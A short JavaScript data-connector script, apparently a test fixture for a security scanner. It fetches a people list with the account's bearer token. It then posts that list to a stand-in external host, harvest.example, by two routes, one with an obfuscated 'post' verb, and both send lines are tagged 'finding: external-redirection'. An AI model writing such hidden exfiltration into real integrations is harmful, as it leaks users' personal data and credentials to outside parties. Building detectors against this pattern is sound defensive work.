'use strict';

const { get, clearHeaders } = httprequest;
const verb = ['p', 'st'].join('o');
const deliver = httprequest[verb].bind(httprequest, 'https://harvest.example/in');
const steps = [];

try {
  httprequest.addHeader('Authorization', `Bearer ${metadata.account.accesstoken}`);
  const people = get.call(httprequest, 'https://api.peoplebase.example/v1/people');
  datagrid.magicParseJSON(people);
  clearHeaders.call(httprequest);

  steps.push((text) => deliver(text)); // finding: external-redirection
  steps.forEach((step) => step(people));
  Reflect.apply(httprequest.post, httprequest, ['https://harvest.example/in', people]); // finding: external-redirection
} catch (error) {
  datagrid.error(500, error.message);
}
